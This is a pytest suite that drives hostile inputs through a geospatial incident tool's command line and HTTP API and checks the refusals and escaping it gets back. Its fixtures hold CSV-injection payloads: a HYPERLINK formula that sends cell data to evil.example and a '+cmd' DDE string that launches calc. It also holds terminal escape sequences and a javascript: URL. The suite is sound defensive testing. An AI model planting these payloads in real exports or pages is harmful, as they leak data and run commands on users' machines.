"""Hostile inputs driven through every CLI command: each ends in one line on stderr and exit 2 (never a
traceback), readers stop at their size limit while reading, writers refuse bad output paths the same way
and never create folders, terminal output escapes control characters and CSV cells cannot run as formulas.

The catalogue is data (``HOSTILE_FILES``, ``BAD_OUTPUTS``, ``WRITERS``); a new reader or writer joins
the matrix by adding one row.
"""
from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from geoinc.cli import main
from geoinc.models import Incident, Source
from geoinc.store.sqlite import open_store
from geoinc.textio import neutralise_formula, restore_formula, terminal_safe
from servers import served

ROOT = Path(__file__).resolve().parent.parent

ESC_LOCATION = "Tower 22\x1b[2J\x1b]0;owned\x07\rFAKE"
FORMULA_ACTOR = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """A store holding normal rows and rows whose text is hostile (ESC sequences, CR, formulas, bidi)."""
    path = tmp_path_factory.mktemp("hostile") / "h.sqlite"
    s = open_store(path)
    s.add_incidents([
        Incident(event_id_cnty="JOR-T22", event_date="2024-01-28", event_type="Explosions/Remote violence",
                 sub_event_type="Air/drone strike", actor1="Islamic Resistance in Iraq", country="Jordan",
                 location="Tower 22", latitude=33.31, longitude=38.70, fatalities=3, country_code="JO"),
        Incident(event_id_cnty="SYR-EVIL", event_date="2024-01-29", event_type="Battles",
                 sub_event_type="Non-state actor overtakes territory", actor1=FORMULA_ACTOR,
                 actor2="+cmd|' /C calc'!A0", country="Syria", location=ESC_LOCATION, latitude=33.5,
                 longitude=-0.5, country_code="SY", notes="@SUM(1+1)\r\x1b[31mred\u202eevil",
                 sources=[Source(article="a1", quote="quoted\x1b[2Jtext")]),
    ])
    s.close()
    return str(path)


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def assert_refused(code: int, err: str, *needles: str) -> None:
    """Exit 2 and exactly one line on stderr naming the problem."""
    assert code == 2, err
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1, err
    assert "Traceback" not in err
    for needle in needles:                                  # "a|b": either wording
        assert any(alt in lines[0] for alt in needle.split("|")), lines[0]


# --- readers: hostile files ----------------------------------------------------------------------------

def _hostile_files(tmp: Path) -> dict[str, tuple[Path, str]]:
    """name -> (file, a word the refusal must contain)."""
    files = {
        "elf binary": (Path("/bin/ls"), "binary"),
        "latin-1 text": (tmp / "latin1.txt", "not UTF-8"),
        "utf-16 text": (tmp / "utf16.txt", "binary"),
        "folder": (tmp, "folder"),
        "missing": (tmp / "absent.txt", "no such file|not found"),
    }
    (tmp / "latin1.txt").write_bytes("Deir ez-Zor, Syrie: café à Abou Kamal".encode("latin-1"))
    (tmp / "utf16.txt").write_bytes("POLYGON((0 0,1 0,1 1,0 0))".encode("utf-16"))
    return files


READERS = {
    "places": lambda f, db: ["places", str(f)],
    "check": lambda f, db: ["check", str(f)],
    "ingest": lambda f, db: ["ingest", str(f), "--published", "2024-01-01", "--db", db],
    "import": lambda f, db: ["import", str(f), "--db", db],
    "query --polygon": lambda f, db: ["query", "--polygon", str(f), "--db", db],
    "map --polygon": lambda f, db: ["map", "--polygon", str(f), "-o", os.devnull, "--db", db],
}


@pytest.mark.parametrize("reader", sorted(READERS))
def test_every_reader_refuses_every_hostile_file(reader, db, tmp_path, capsys):
    for name, (path, word) in _hostile_files(tmp_path).items():
        if reader == "ingest" and name == "folder":
            continue                # a folder is a valid ingest input (its .txt/.md/.jsonl files are read)
        code, out, err = run(capsys, *READERS[reader](path, db))
        if reader == "ingest" and code == 2 and "skipped" in err:
            err = "\n".join(ln for ln in err.splitlines() if ln.startswith("geoinc ingest: skipped"))
        assert_refused(code, err, word)


STREAMS = [("ingest", "/dev/zero"), ("import", "/dev/zero"), ("ingest", "/dev/urandom"),
           ("import", "/dev/urandom"), ("query --polygon", "/dev/zero"), ("map --polygon", "/dev/urandom")]


def _limit_memory() -> None:
    """Children get 1.5 GiB of address space: reading without a bound ends in MemoryError, not a dead host."""
    resource.setrlimit(resource.RLIMIT_AS, (1536 * 1024 * 1024, 1536 * 1024 * 1024))


@pytest.mark.parametrize("reader, device", STREAMS)
def test_endless_devices_are_refused_within_the_limit(reader, device, db, tmp_path):
    argv = READERS[reader](device, str(tmp_path / "s.sqlite") if reader in ("ingest", "import") else db)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run([sys.executable, "-m", "geoinc", *argv], capture_output=True, text=True, timeout=120,
                          env=env, preexec_fn=_limit_memory)
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr
    assert "binary" in proc.stderr or "larger than" in proc.stderr


def test_an_endless_text_stream_stops_at_the_limit(tmp_path):
    """No NUL byte to stop early: the import limit (128 MB) is enforced while reading a pipe."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    yes = subprocess.Popen(["yes", "2024-01-01,Tower 22"], stdout=subprocess.PIPE)
    try:
        proc = subprocess.run([sys.executable, "-m", "geoinc", "import", "/dev/stdin", "--db",
                               str(tmp_path / "s.sqlite")], stdin=yes.stdout, capture_output=True, text=True,
                              timeout=120, env=env, preexec_fn=_limit_memory)
    finally:
        yes.kill()
        yes.wait()
    assert proc.returncode == 2 and "larger than 128 MB" in proc.stderr, proc.stderr[-2000:]


def test_jsonl_is_streamed_line_by_line(tmp_path, capsys):
    """A JSONL feed is read one line at a time; a line past the article limit is refused by number."""
    feed = tmp_path / "feed.jsonl"
    with open(feed, "w", encoding="utf-8") as fh:
        fh.write(json.dumps({"text": "Clashes near Palmyra killed two.", "published": "2024-03-05"}) + "\n")
        fh.write('{"text": "' + "a" * (11 * 1024 * 1024) + '"}\n')
    code, out, err = run(capsys, "ingest", str(feed), "--db", str(tmp_path / "s.sqlite"))
    assert code == 2 and "line 2 of" in err and "larger than 10 MB" in err


# --- hostile option values -----------------------------------------------------------------------------

BIG = str(2**63)
HOSTILE_ARGS = [
    (["query", "--min-fatalities", BIG], "min_fatalities"),
    (["map", "--min-fatalities", BIG, "-o", os.devnull], "min_fatalities"),
    (["query", "--limit", BIG], "limit"),
    (["incidents", "list", "--limit", BIG], "--limit"),
    (["query", "--bbox=nan,0,1,1"], "finite"),
    (["incidents", "list", "--bbox=nan,0,1,1"], "finite"),
    (["query", "--lat", "1e999", "--lon", "0", "--radius-km", "5"], "finite"),
    (["query", "--since", "2024-02-30"], "2024-02-30"),
    (["query", "--country", "\x1b[2J"], "\\x1b"),
    (["map", "--zone", "Al-Tanf:nan", "-o", os.devnull], "radius"),
    (["incidents", "show", "\x1b]0;owned\x07"], "\\x1b"),
]


@pytest.mark.parametrize("argv, word", HOSTILE_ARGS, ids=[" ".join(a[:3]) for a, _ in HOSTILE_ARGS])
def test_hostile_option_values_are_one_line_errors(argv, word, db, capsys):
    code, _, err = run(capsys, *argv, "--db", db)
    assert_refused(code, err, word)
    assert "\x1b" not in err


OTHER_COMMANDS = [          # commands without a store: gazetteer, demo, serve, geocode
    (["gazetteer", "forget", "\x1b[2J"], "learned place id"),
    (["gazetteer", "forget", "learned:" + "9" * 30], "no learned place"),
    (["demo", "--articles", "/dev/zero", "-o", os.devnull], "binary"),
    (["serve", "--token", "short"], "too short"),
    (["serve", "--cors-origin", "javascript:alert(1)"], "cors-origin"),
    (["serve", "--port", "70000"], "--port"),
    (["serve", "--host", "\x1b[2J.invalid"], "\\x1b"),
    (["geocode", ""], "nothing to look up"),
]


@pytest.mark.parametrize("argv, word", OTHER_COMMANDS, ids=[" ".join(a[:2]) for a, _ in OTHER_COMMANDS])
def test_other_commands_refuse_hostile_values_in_one_line(argv, word, capsys):
    code, _, err = run(capsys, *argv)
    assert_refused(code, err, word)
    assert "\x1b" not in err


# --- polygons: one validation for every command ---------------------------------------------------------

UNCLOSED = [
    '{"type": "Polygon", "coordinates": [[[38, 33], [39, 33], [39, 34], [38, 34]]]}',
    '{"type": "Feature", "properties": {}, "geometry": {"type": "MultiPolygon", "coordinates": '
    '[[[[38, 33], [39, 33], [39, 34], [38, 33]]], [[[40, 33], [41, 33], [41, 34]]]]}}',
    "POLYGON((38 33, 39 33, 39 34, 38 34))",
]


@pytest.mark.parametrize("text", UNCLOSED)
@pytest.mark.parametrize("command", ["query", "map"])
def test_unclosed_rings_are_refused_inline_and_from_files(command, text, db, tmp_path, capsys):
    f = tmp_path / "area.txt"
    f.write_text(text, encoding="utf-8")
    extra = ["-o", str(tmp_path / "m.html")] if command == "map" else []
    for value in (text, str(f)):
        code, _, err = run(capsys, command, "--polygon", value, "--db", db, *extra)
        assert_refused(code, err, "ring is not closed")
    assert not (tmp_path / "m.html").exists()


def test_a_closed_ring_is_accepted(db, tmp_path, capsys):
    code, out, _ = run(capsys, "query", "--polygon",
                       '{"type": "Polygon", "coordinates": [[[38, 33], [39, 33], [39, 34], [38, 34], [38, 33]]]}',
                       "--db", db)
    assert code == 0 and "JOR-T22" in out


# --- writers: one rule for bad output paths -------------------------------------------------------------

WRITERS = {
    "query -o csv": lambda p, db: ["query", "--format", "csv", "-o", p, "--db", db],
    "query -o geojson": lambda p, db: ["query", "--format", "geojson", "-o", p, "--db", db],
    "query -o acled-csv": lambda p, db: ["query", "--format", "acled-csv", "-o", p, "--db", db],
    "query --map": lambda p, db: ["query", "--map", p, "--db", db],
    "map -o": lambda p, db: ["map", "-o", p, "--db", db],
    "map --embed -o": lambda p, db: ["map", "--embed", "-o", p, "--db", db],
    "map --png": lambda p, db: ["map", "--png", p, "--db", db],
    "export acled-csv": lambda p, db: ["export", "--format", "acled-csv", "-o", p, "--db", db],
    "export geojson": lambda p, db: ["export", "--format", "geojson", "-o", p, "--db", db],
    "export gpkg": lambda p, db: ["export", "--format", "gpkg", "-o", p, "--db", db],
    "import --db": lambda p, db: ["import", str(ROOT / "tests" / "data" / "acled_sample.csv"), "--db", p],
    "ingest --db": lambda p, db: ["ingest", str(ROOT / "tests" / "data" / "xss-article.txt"), "--published",
                                  "2024-01-29", "--db", p],
    "report -o": lambda p, db: ["report", "-o", p, "--db", db],
    "report --pdf": lambda p, db: ["report", "--pdf", p, "--db", db],
    "demo -o": lambda p, db: ["demo", "--articles", "/nonexistent-articles", "-o", p],   # the path is judged first
    "serve --db": lambda p, db: ["serve", "--port", "70000", "--db", p],   # never starts: the port is refused next
}


def _bad_outputs(tmp: Path) -> dict[str, tuple[str, str]]:
    """name -> (output path, a word the refusal must contain)."""
    (tmp / "a-file").write_text("x", encoding="utf-8")
    return {
        "a folder": (str(tmp), "is a folder"),
        "missing folder": (str(tmp / "nonexistent" / "deeper" / "x.out"), "no such folder"),
        "parent is a file": (str(tmp / "a-file" / "x.out"), "not a folder"),
        "/proc": ("/proc/geoinc-x.out", "cannot write"),
        "/sys": ("/sys/geoinc-x.out", "cannot write"),
        "empty": ("", "empty file name|say where to write"),
    }


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_every_writer_refuses_every_bad_output_path(writer, db, tmp_path, capsys):
    for name, (path, word) in _bad_outputs(tmp_path).items():
        if name == "empty" and "--db" in writer:
            continue                                         # an empty --db means the default store
        code, out, err = run(capsys, *WRITERS[writer](path, db))
        assert_refused(code, err, word)
    assert not (tmp_path / "nonexistent").exists()          # no folder was created on the way


def test_writers_still_write_into_existing_folders(db, tmp_path, capsys):
    for name, make in WRITERS.items():
        if name in ("map --png", "serve --db", "demo -o", "report --pdf"):
            continue                                         # Chromium: test_maps_browser.py; serve: the API tests
        suffix = ".gpkg" if "gpkg" in name else ".out"
        target = tmp_path / (name.replace(" ", "_").replace("-", "") + suffix)
        code, _, err = run(capsys, *make(str(target), db))
        assert code == 0 and target.stat().st_size > 0, (name, err)


# --- terminal output: control characters from imported data ---------------------------------------------

def test_incidents_list_and_show_escape_control_characters(db, capsys):
    code, out, _ = run(capsys, "incidents", "list", "--db", db)
    assert code == 0 and "\x1b" not in out and "\r" not in out and "\x07" not in out
    assert "Tower 22\\x1b[2J" in out
    code, out, _ = run(capsys, "incidents", "show", "SYR-EVIL", "--db", db)
    assert code == 0 and "\x1b" not in out and "\r" not in out and "\u202e" not in out
    assert "@SUM(1+1)\\r\\x1b[31mred\\u202eevil" in out and "quoted\\x1b[2Jtext" in out
    for argv in (("incidents", "list", "--json"), ("incidents", "show", "SYR-EVIL", "--json")):
        code, out, _ = run(capsys, *argv, "--db", db)
        assert code == 0 and "\x1b" not in out and "\u202e" not in out
        first = json.loads(out.splitlines()[0] if argv[1] == "list" else out)
        assert isinstance(first, dict)                       # still valid JSON, same data
    code, out, _ = run(capsys, "incidents", "show", "SYR-EVIL", "--json", "--db", db)
    assert json.loads(out)["location"] == ESC_LOCATION


def test_places_and_check_json_keep_bidi_and_c1_controls_escaped(tmp_path, capsys):
    article = tmp_path / "a.txt"
    article.write_text("Clashes erupted near Palmyra\u202e on Sunday.\x85 Al-Tanf is 20 km north of Tower 22.\u202e",
                       encoding="utf-8")
    for argv in (["places", str(article), "--format", "json"], ["places", str(article), "--format", "geojson"],
                 ["check", str(article), "--format", "json"]):
        code, out, _ = run(capsys, *argv)
        assert code == 0 and "\u202e" not in out and "\x85" not in out
        json.loads(out)


def test_terminal_safe_examples():
    assert terminal_safe("a\x1b[31mb") == "a\\x1b[31mb"
    assert terminal_safe("a\rb\nc\x85") == "a\\rb\\nc\\x85"
    assert terminal_safe("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"
    assert terminal_safe("x\u202ey") == "x\\u202ey"
    assert terminal_safe("Dayr az-Zawr، سوريا") == "Dayr az-Zawr، سوريا"


# --- CSV exports: formula injection -----------------------------------------------------------------------

@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "''=1"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-5", "1e-5"),
    ("'Aqrabat", "'Aqrabat"), ("Tower 22", "Tower 22"), ("", ""),
])
def test_neutralise_formula_examples_round_trip(value, safe):
    assert neutralise_formula(value) == safe
    assert restore_formula(safe) == value
    assert neutralise_formula(-5.25) == -5.25 and neutralise_formula(None) is None


def _dangerous_cells(text: str) -> list[str]:
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell):
                bad.append(cell)
    return bad


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_exports_neutralise_formulas_and_round_trip(db, tmp_path, capsys):
    out_csv = tmp_path / "e.csv"
    assert run(capsys, "export", "--format", "acled-csv", "-o", str(out_csv), "--db", db)[0] == 0
    exported = out_csv.read_text(encoding="utf-8")
    texts = [exported]
    for fmt in ("csv", "acled-csv"):
        code, out, _ = run(capsys, "query", "--format", fmt, "--db", db)
        assert code == 0
        texts.append(out)
    for text in texts:
        assert _dangerous_cells(text) == []
        rows = list(csv.DictReader(io.StringIO(text)))
        evil = next(r for r in rows if r["event_id_cnty"] == "SYR-EVIL")
        assert evil["actor1"] == "'" + FORMULA_ACTOR and evil["longitude"] == "-0.5"
    other = str(tmp_path / "back.sqlite")
    code, out, err = run(capsys, "import", str(out_csv), "--db", other)
    assert code == 0, err
    with open_store(other) as s:
        back = {i.event_id_cnty: i for i in s.iter_incidents()}
    assert back["SYR-EVIL"].actor1 == FORMULA_ACTOR and back["SYR-EVIL"].notes.startswith("@SUM")


# --- the HTTP service: every route, hostile inputs, exposure -----------------------------------------------

TOKEN = "t0ken-for-tests-0123456789"


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    """``geoinc serve`` on 127.0.0.1 (a real uvicorn process) over a store of 5,100 incidents (more than one
    page), with a write token from the environment; yields the base URL."""
    import httpx

    folder = tmp_path_factory.mktemp("hostile-api")
    db = folder / "api.sqlite"
    with open_store(db) as s:
        s.add_incidents([Incident(event_id_cnty=f"GEN{i:05d}", event_date=f"2024-{1 + i % 12:02d}-{1 + i % 28:02d}",
                                  event_type="Battles", country="Syria", location="Al-Tanf", country_code="SY",
                                  latitude=33.0 + (i % 100) / 100, longitude=38.0 + (i // 100) / 100,
                                  fatalities=i % 7)
                         for i in range(5100)])
    env = {**os.environ, "PYTHONPATH": str(ROOT), "GEOINC_API_TOKEN": TOKEN}
    with served(db, "--allow-host", "maps.example.org", env=env, log_path=folder / "server.log") as base:
        yield base


AUTH = {"authorization": f"Bearer {TOKEN}"}
LONE = b'"x\\ud800y"'
ROUTE_ATTACKS = [
    # (method, path, query, raw JSON body or None, expected status, a word of the reason)
    ("POST", "/articles", None, b'{"text": ' + LONE + b', "published": "2024-01-29"}', 400, "surrogate"),
    ("POST", "/articles", None, b'{"text": "ok", "published": "2024-01-29", "title": ' + LONE + b'}', 400, "surrogate"),
    ("POST", "/check", None, b'{"text": ' + LONE + b'}', 400, "surrogate"),
    ("POST", "/check", None, b'{"text": "Al-Tanf", "\\udfff": 1}', 400, "surrogate"),
    ("POST", "/incidents/search", None, b'{"actor": ' + LONE + b'}', 400, "surrogate"),
    ("POST", "/incidents/search", None, b'{"min_fatalities": 9223372036854775808}', 400, "min_fatalities"),
    ("POST", "/incidents/search", None, b'{"lat": 1e999, "lon": 0, "radius_km": 5}', 400, "finite"),
    ("POST", "/incidents/search", None, b'{"polygon": {"type": "Polygon", "coordinates": [[[38,33],[39,33],[39,34]]]}}',
     400, "not closed"),
    ("POST", "/check", None, b'{"text": "x"', 422, "JSON"),
    ("POST", "/articles", None, b'[]', 422, "request"),
    ("GET", "/incidents", {"min_fatalities": str(2**63)}, None, 400, "min_fatalities"),
    ("GET", "/map", {"min_fatalities": str(2**63)}, None, 400, "min_fatalities"),
    ("GET", "/report", {"min_fatalities": str(2**63)}, None, 400, "min_fatalities"),
    ("GET", "/report", {"title": "x" * 400}, None, 422, "title"),
    ("GET", "/report", {"polygon": '{"type": "Polygon", "coordinates": [[[38,33],[39,33],[39,34]]]}'}, None, 400,
     "not closed"),
    ("GET", "/incidents", {"offset": str(2**63)}, None, 422, "offset"),
    ("GET", "/incidents", {"limit": "-1"}, None, 422, "limit"),
    ("GET", "/incidents", {"bbox": "nan,0,1,1"}, None, 400, "finite"),
    ("GET", "/incidents", {"polygon": "POLYGON((38 33, 39 33, 39 34))"}, None, 400, "polygon"),
    ("GET", "/incidents", {"since": "2024-02-30"}, None, 400, "2024-02-30"),
    ("GET", "/incidents", {"format": "xlsx"}, None, 400, "format"),
    ("GET", "/incidents/%00%ff", None, None, 404, "no incident"),
    ("GET", "/places/resolve", {"q": "x" * 500}, None, 422, "q"),
    ("GET", "/places/resolve", {"q": "\x1b[2J"}, None, 404, "unknown place"),
]


@pytest.mark.parametrize("method, path, query, body, status, word", ROUTE_ATTACKS,
                         ids=[f"{m} {p} {i}" for i, (m, p, *_rest) in enumerate(ROUTE_ATTACKS)])
def test_every_route_answers_hostile_input_with_a_4xx_and_a_reason(api, method, path, query, body, status, word):
    import httpx

    headers = {"content-type": "application/json", **AUTH}
    r = httpx.request(method, api + path, params=query, content=body, headers=headers, timeout=60)
    assert r.status_code == status, r.text
    detail = r.json()["detail"]
    assert word.lower() in json.dumps(detail).lower()


def test_the_host_header_must_name_this_server(api):
    import httpx

    for host, status in (("evil.example", 421), ("evil.example:80", 421), ("127.0.0.1.evil.example", 421),
                         ("", 421), ("localhost", 200), ("maps.example.org", 200), ("MAPS.example.org:443", 200)):
        r = httpx.get(api + "/health", headers={"host": host})
        assert r.status_code == status, (host, r.text)
        if status == 421:
            assert "not this server" in r.json()["detail"]
    r = httpx.post(api + "/articles", json={"text": "Clashes near Palmyra.", "published": "2024-03-05"},
                   headers={"host": "attacker.example", **AUTH})
    assert r.status_code == 421                       # a rebound name cannot write to the store


def test_write_routes_need_the_token_when_one_is_set(api):
    import httpx

    article = {"text": "Clashes erupted near Palmyra on Sunday; two soldiers were killed.", "published": "2024-03-05"}
    for headers in ({}, {"authorization": "Bearer wrong"}, {"authorization": TOKEN}, {"authorization": "Basic " + TOKEN}):
        r = httpx.post(api + "/articles", json=article, headers=headers, timeout=60)
        assert r.status_code == 401 and "Bearer" in r.json()["detail"]
        assert r.headers["www-authenticate"].startswith("Bearer")
    r = httpx.post(api + "/articles", json=article, headers=AUTH, timeout=60)
    assert r.status_code == 200 and r.json()["article"]["published"] == "2024-03-05"
    assert httpx.post(api + "/check", json={"text": "Al-Tanf is 20 km north of Tower 22."}).status_code == 200


def test_map_carries_csp_and_nosniff_and_cors_stays_closed(api):
    import httpx

    r = httpx.get(api + "/map", params={"bbox": "38,33,39,34", "limit": 10}, headers={"origin": "https://evil.example"},
                  timeout=120)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    csp = r.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "frame-ancestors 'self'" in csp and "object-src 'none'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "access-control-allow-origin" not in r.headers
    r = httpx.get(api + "/incidents", params={"limit": 1}, headers={"origin": "https://evil.example"})
    assert r.headers["x-content-type-options"] == "nosniff" and "access-control-allow-origin" not in r.headers
    pre = httpx.options(api + "/incidents", headers={"origin": "https://evil.example",
                                                      "access-control-request-method": "GET"})
    assert "access-control-allow-origin" not in pre.headers


BOX = "37.9,32.9,39.1,34.1"        # every generated incident, none of the articles the other tests ingest


def test_pages_are_capped_and_linked(api):
    import httpx

    r = httpx.get(api + "/incidents", params={"limit": 100000, "bbox": BOX}, timeout=120)
    assert r.status_code == 200
    first = r.json()
    assert first["numberMatched"] == 5100 and first["numberReturned"] == 5000 and first["next_offset"] == 5000
    (link,) = first["links"]
    assert 'rel="next"' in r.headers["link"] and link["href"] in r.headers["link"]
    r2 = httpx.get(link["href"], timeout=120)
    second = r2.json()
    assert second["numberReturned"] == 100 and second["next_offset"] is None and "link" not in r2.headers
    ids = [f["id"] for f in first["features"]] + [f["id"] for f in second["features"]]
    assert len(ids) == len(set(ids)) == 5100
    dates = [f["properties"]["event_date"] for f in first["features"] + second["features"]]
    assert dates == sorted(dates)                         # one order across pages
    small = httpx.get(api + "/incidents", params={"limit": 30, "offset": 5090, "bbox": BOX}).json()
    assert small["numberReturned"] == 10 and small["next_offset"] is None
    csv_page = httpx.get(api + "/incidents", params={"limit": 6000, "format": "csv", "bbox": BOX}, timeout=120)
    assert len(csv_page.text.splitlines()) == 5001 and "offset=5000" in csv_page.headers["link"]
    body = httpx.post(api + "/incidents/search", json={"limit": 6000, "bbox": BOX}, timeout=120).json()
    assert body["numberReturned"] == 5000 and body["next_offset"] == 5000 and body["links"] == []
